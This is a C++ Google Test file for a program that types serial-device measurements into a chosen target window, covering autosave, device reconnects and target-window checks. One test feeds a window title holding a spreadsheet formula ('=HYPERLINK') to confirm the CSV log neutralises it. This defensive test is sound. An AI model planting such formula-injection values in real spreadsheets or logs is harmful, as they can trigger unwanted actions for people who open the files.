    EXPECT_THAT(view.errors, testing::Contains("TRAVEK.INI: ein Ordner, keine Datei"));
    EXPECT_EQ(view.panels[1], "PX5R"); // the defaults, as without the file
    view.errors.clear();
    session->grid().setCell(2, 1, "{ENTER};");
    session->shutDown(false);
    ASSERT_EQ(view.errors.size(), 1u);
    EXPECT_EQ(view.errors[0], "TRAVEK.INI: ein Ordner, keine Datei\nablauf.pst: ein Ordner, keine Datei");
    EXPECT_EQ(dir.read("ablauf.abl"), "1\t1\t{ENTER};\r\n");
}

// A sequence file too long to be one is not loaded, and so never replaced by what the session
// holds: not after an edit, not at the exit.
TEST_F(SessionTest, ASequenceFileThatWasRefusedIsNeverWrittenOver) {
    dir.write("ablauf.abl", stepsFile(120));
    open();
    EXPECT_THAT(view.errors, ElementsAre("ablauf.abl: mehr als 99 Zeilen"));
    session->insertRow(1, 1);
    loop.advance(Session::SaveDelay);
    session->shutDown(false);
    EXPECT_EQ(dir.read("ablauf.abl"), stepsFile(120));
    EXPECT_THAT(view.errors.back(), HasSubstr("ablauf.abl: beim Start nicht geladen"));
}

// What the exit would save is saved a second after every change, so that a program that is
// killed, or whose desktop dies, loses nothing. A file that cannot be written is said once, not
// at every edit, and again when it fails anew after a success.
TEST_F(SessionTest, EveryChangeIsSavedASecondLaterAsTheExitWouldSaveIt) {
    writeBox();
    dir.write("ablauf.abl", stepsFile(2));
    open();
    session->startUp();
    view.countDialog = [](const SeriesCountInput&, int& value) {
        value = 4;
        return true;
    };
    session->editSeriesCount();
    session->insertRow(1, 1);
    loop.advance(Session::SaveDelay - std::chrono::milliseconds(1));
    EXPECT_FALSE(std::filesystem::exists(dir.file("ablauf.pst")));
    loop.advance(std::chrono::milliseconds(1));
    const std::string sequence = dir.read("ablauf.abl"), series = dir.read("ablauf.pst");
    EXPECT_EQ(sequence, "1\t\t\r\n2\t1\tk1;\r\n");
    EXPECT_EQ(series, "4\r\n\r\n");
    EXPECT_THAT(dir.read("TRAVEK.INI"), HasSubstr("INTERFACE=BOX"));

    std::filesystem::permissions(dir.file("ablauf.pst"), std::filesystem::perms::owner_read);
    for (int edit = 0; edit < 3; ++edit) {
        session->insertRow(1, 1);
        loop.advance(Session::SaveDelay);
    }
    ASSERT_EQ(view.errors.size(), 1u);
    EXPECT_THAT(view.errors[0], HasSubstr("ablauf.pst: "));
    std::filesystem::permissions(dir.file("ablauf.pst"), std::filesystem::perms::owner_all);
    session->deleteRow(1, 1);
    loop.advance(Session::SaveDelay);
    std::filesystem::permissions(dir.file("ablauf.pst"), std::filesystem::perms::owner_read);
    session->deleteRow(1, 1);
    loop.advance(Session::SaveDelay);
    EXPECT_EQ(view.errors.size(), 2u);
    std::filesystem::permissions(dir.file("ablauf.pst"), std::filesystem::perms::owner_all);

    // The exit writes the very same files.
    session->deleteRow(1, 1);
    loop.advance(Session::SaveDelay);
    const std::string saved = dir.read("ablauf.abl");
    session->shutDown(false);
    EXPECT_EQ(dir.read("ablauf.abl"), saved);
    EXPECT_EQ(dir.read("ablauf.pst"), series);
}

// A reconnect opens only the device that was lost. One that nothing can tell from the next
// (a pty or a built-in port named by its node) is left to the user; another device under the
// name is not opened, and the tries go on for the right one.
TEST_F(SessionTest, OnlyTheLostDeviceIsOpenedAgainByItself) {
    writeBox();
    open();
    session->startUp();
    const auto lose = [this] {
        device->open = false;
        session->port().ClosePort();
        session->portLost();
    };
    device->returns = SerialDevice::Return::NotBack;
    lose();
    int opens = device->opens;
    loop.advance(3s);
    EXPECT_EQ(device->opens, opens);
    EXPECT_TRUE(session->reconnecting());
    device->returns = SerialDevice::Return::Back;
    loop.advance(1s);
    EXPECT_TRUE(session->port().IsPortOpen());

    device->returns = SerialDevice::Return::NeverByItself;
    lose();
    opens = device->opens;
    loop.advance(5s);
    EXPECT_EQ(device->opens, opens);
    EXPECT_FALSE(session->reconnecting());
    EXPECT_EQ(view.panels[5], "COM1 ist fort; \"Einstellungen > Comport\" \xF6" "ffnet den Port wieder");
    EXPECT_EQ(view.active, "Comport ??");
}

// A busy device folder starts at most one try per DeviceEventSpacing.
TEST_F(SessionTest, AFloodOfDeviceEventsStartsFewTries) {
    writeBox();
    open();
    session->startUp();
    device->open = false;
    device->openable = false;
    session->port().ClosePort();
    session->portLost();
    std::intptr_t folder = -1;
    for (std::intptr_t handle : loop.watchedHandles())
        folder = handle;
    if (folder < 0)
        GTEST_SKIP() << "this platform does not watch the device's folder";
    const int opens = device->opens;
    for (int event = 0; event < 1000; ++event)
        loop.makeReadable(folder);
    loop.advance(Session::DeviceEventSpacing);
    EXPECT_EQ(device->opens, opens + 2); // one at once, one for the rest at the end of the spacing
}

namespace {

class TargetWindowSessionTest : public SessionTest {
protected:
    void SetUp() override {
        SessionTest::SetUp();
        writeBox();
        dir.write("ablauf.abl", "1\t1\t{TAB};\r\n2\t1\t{ENTER};\r\n");
    }
    void start(const std::string& target) {
        dir.write("TRAVEK.INI", "[PARAMETER]\r\nINTERFACE=BOX\r\nNK=2\r\n[LOG]\r\nFILE=log.csv\r\n" + target);
        restart();
    }
    void restart() {
        session.reset();
        open();
        session->setFocusWindow(&focus);
        session->startUp();
    }
    void measure(const std::string& line) {
        session->port().OnReceiveData(line.data(), static_cast<std::int32_t>(line.size()));
    }
    test::FakeFocusWindow focus;
};

TEST_F(TargetWindowSessionTest, AValueForAnotherWindowIsNotTypedAnywhereAndTheStepWaitsForTheTarget) {
    start("[TARGET]\r\nPROGRAM=\"soffice.bin\"\r\nCLASS=\"libreoffice-calc\"\r\nTITLE=\"Messung.ods\"\r\n"
          "MATCHTITLE=0\r\n");
    focus.focus("soffice.bin", "libreoffice-calc", "Messung.ods - LibreOffice Calc");
    measure("A: 1,5\r");
    EXPECT_THAT(keys.texts, ElementsAre("1,50", "{TAB}")) << "another title is the same target without the title rule";

    focus.focus("thunderbird", "thunderbird", "Posteingang; neu");
    measure("A: 2,5\r");
    EXPECT_THAT(keys.texts, ElementsAre("1,50", "{TAB}")) << "neither the value nor its keys";
    EXPECT_EQ(sequence().CurrentStep, 2);
    EXPECT_EQ(view.beeps, 1);
    EXPECT_EQ(view.panels[5], "Zielfenster nicht aktiv: Posteingang; neu (thunderbird, thunderbird)");
    // Nothing has the focus, or the desktop cannot be asked: refused alike.
    focus.window.reset();
    measure("A: 2,6\r");
    EXPECT_EQ(view.panels[5], "Zielfenster nicht aktiv: kein Fenster");
    focus.focus("soffice.bin", "libreoffice-calc", "Messung.ods");
    focus.failure = "the X display went away";
    measure("A: 2,7\r");
    EXPECT_EQ(view.panels[5], "Zielfenster nicht aktiv: unbekannt (the X display went away)");
    EXPECT_EQ(view.beeps, 3);

    // The target is back: the step that waited takes the next value.
    focus.failure.clear();
    measure("A: 3,5\r");
    EXPECT_THAT(keys.texts, ElementsAre("1,50", "{TAB}", "3,50", "{ENTER}"));
    EXPECT_EQ(sequence().CurrentStep, 1);

    const std::string log = dir.read("log.csv");
    EXPECT_NE(log.find(";1;2;A: 2,5;;\"nicht getippt: Zielfenster nicht aktiv (Posteingang; neu (thunderbird, "
                       "thunderbird))\";\"Posteingang; neu\"\r\n"),
              std::string::npos)
        << log;
    EXPECT_NE(log.find(";1;2;A: 3,5;3,50;;Messung.ods\r\n"), std::string::npos) << log;
}

TEST_F(TargetWindowSessionTest, TheTitleRuleAndNoTarget) {
    start("[TARGET]\r\nPROGRAM=\"EXCEL.EXE\"\r\nCLASS=\"XLMAIN\"\r\nTITLE=\"Los 7.xlsx - Excel\"\r\nMATCHTITLE=1\r\n");
    focus.focus("excel.exe", "XLMAIN", "Los 8.xlsx - Excel");
    measure("A: 1,5\r");
    EXPECT_TRUE(keys.texts.empty());
    focus.focus("excel.exe", "XLMAIN", "Los 7.xlsx - Excel");
    measure("A: 1,5\r");
    EXPECT_THAT(keys.texts, ElementsAre("1,50", "{TAB}")) << "Windows spells an executable either way";

    // Without a target (the default) every window takes values, as before.
    session.reset();
    keys.texts.clear();
    start("");
    focus.focus("thunderbird", "thunderbird", "Posteingang");
    measure("A: 1,5\r");
    EXPECT_THAT(keys.texts, ElementsAre("1,50", "{TAB}"));
    EXPECT_EQ(view.beeps, 1);

    // The log says where each value went, and which window had the focus when none was due; a
    // title is anybody's text: one line, and never a formula.
    focus.focus("evil", "evil", "=HYPERLINK(\"x\")\n2");
    measure("C: 9\r");
    const std::string log = dir.read("log.csv");
    EXPECT_NE(log.find(";1;1;A: 1,5;1,50;;Posteingang\r\n"), std::string::npos) << log;
    EXPECT_NE(log.find("erwartet Kanal 1;\"'=HYPERLINK(\"\"x\"\") 2\"\r\n"), std::string::npos) << log;
}

TEST_F(TargetWindowSessionTest, TheDialogsTargetIsKeptInTheSettingsAndComesBackAtStart) {
    start("");
    focus.focus("foot", "foot", "  \"quoted\" title ");
    view.targetDialog = [this](TargetWindowChoice& choice) {
        EXPECT_EQ(choice.targetText(), "kein Zielfenster (es wird in jedes Fenster getippt)");
        choice.setMatchTitle(true);
        choice.capture();
        loop.advance(3s);
        return true;
    };
    session->chooseTargetWindow();
    restart();
    EXPECT_EQ(session->targetWindow().windowClass, "foot");
    EXPECT_EQ(session->targetWindow().title, "  \"quoted\" title ");
    EXPECT_TRUE(session->targetWindow().matchTitle);

    // A desktop that cannot say which window has the focus: no dialog, and a kept target is said
    // to be unchecked instead of stopping every value.
    session.reset();
    open();
    session->setFocusWindow(nullptr, "GNOME und KDE unter Wayland sagen es keinem Programm");
    session->chooseTargetWindow();
    EXPECT_THAT(view.errors, ElementsAre("Zielfenster: GNOME und KDE unter Wayland sagen es keinem Programm"));
    testing::internal::CaptureStderr();
    session->startUp();
    EXPECT_THAT(testing::internal::GetCapturedStderr(), HasSubstr("Zielfenster wird nicht gepr\xFC" "ft"));
    EXPECT_THAT(view.panels[5], HasSubstr("nicht gepr\xFC" "ft"));
    measure("A: 1,5\r");
    EXPECT_THAT(keys.texts, ElementsAre("1,50", "{TAB}"));
}

} // namespace
